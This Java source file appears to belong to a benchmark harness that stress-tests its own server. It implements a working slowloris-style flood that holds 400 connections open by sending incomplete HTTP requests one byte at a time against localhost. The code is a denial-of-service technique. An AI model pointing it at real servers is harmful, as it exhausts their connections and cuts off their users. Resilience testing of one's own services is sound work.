package lucca.bench.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Queue;

/// Connections whose requests are sent one byte at a time and never end.
final class SlowRequests implements Flood {
    private static final int CONNECTIONS = 400;
    private static final String HEADER = "GET / HTTP/1.1\r\nHost: localhost\r\nX: ";
    private static final String BODY =
            "POST /api/guests HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                    + "Content-Length: 4000\r\n\r\n{";

    private final AttackClient client;
    private final Queue<Socket> open = new ArrayDeque<>();
    private int opened;

    SlowRequests(AttackClient attackClient) {
        this.client = attackClient;
    }

    @Override
    public String name() {
        return "slow";
    }

    /// Opens another connection, or sends one more byte on the one that has waited longest.
    @Override
    public void sendNext() throws IOException {
        if (open.size() < CONNECTIONS) {
            Socket socket = client.connect();
            send(socket, opened++ % 2 == 0 ? HEADER : BODY);
            open.add(socket);
            client.count(name(), "opened");
            return;
        }
        Socket next = open.remove();
        try {
            send(next, "x");
            open.add(next);
        } catch (IOException e) {
            next.close();
            client.count(name(), "cut off");
        }
    }

    private static void send(Socket socket, String text) throws IOException {
        socket.getOutputStream().write(text.getBytes(StandardCharsets.US_ASCII));
    }
}
